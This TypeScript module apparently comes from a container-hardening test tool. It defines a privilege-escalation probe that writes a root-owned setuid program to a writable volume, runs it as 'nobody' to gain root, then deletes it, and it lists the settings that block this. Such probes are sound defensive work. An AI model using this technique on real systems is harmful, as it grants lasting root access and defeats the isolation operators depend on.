/** Leave a setuid-root program in a writable place, and use it as another user. */
import type { Attack } from '../attack.ts';
import { newName } from '../dropping.ts';
import { becomesRoot, runToBecomeRoot } from '../escalation.ts';
import { call, resultOf } from '../probe/program.ts';
import { AT_FDCWD, O_CREAT, O_EXCL, O_WRONLY } from '../probe/syscalls.ts';
import { scratchWithout } from '../scratch.ts';

const SETUID = 0o4755;
const attack: Attack = {
  id: 'setuid-file',
  title: 'Leave a setuid-root program in a writable place',
  family: 'code',
  technique: 'T1611',
  why: 'Whoever was root once keeps the way back: any process of any user that shares the volume becomes root by running the file.',
  stoppedBy: ['run-as-non-root', 'drop-all-capabilities', 'allow-privilege-escalation'],
  harmless: false,
  plan(target) {
    const scratch = scratchWithout(target, ['noexec', 'nosuid']);
    if ('reason' in scratch) return { tries: [], skipped: [{ place: '', reason: scratch.reason }] };
    const name = newName(target, scratch.path, '-setuid');
    const content = becomesRoot(target.architecture);
    const created = call('openat', AT_FDCWD, name, O_WRONLY | O_CREAT | O_EXCL, 0o755);
    const wrote = call('write', resultOf(created), content, content.length);
    const owned = call('fchown', resultOf(created), 0, 0);
    // After the owner, whose change takes the bit away again.
    const marked = call('fchmod', resultOf(created), SETUID);
    const run = runToBecomeRoot(target, name, 'nobody');
    const removed = call('unlinkat', AT_FDCWD, name, 0);
    const program = [created, wrote, owned, marked, call('close', resultOf(created)), ...run.calls, removed];
    return {
      tries: [
        {
          place: scratch.path,
          gain: 'succeeded',
          program,
          decisive: [created, wrote, owned, marked, ...run.decisive],
          needs: 'CHOWN',
          execution: run.execution,
        },
      ],
      skipped: [],
    };
  },
};

export default attack;
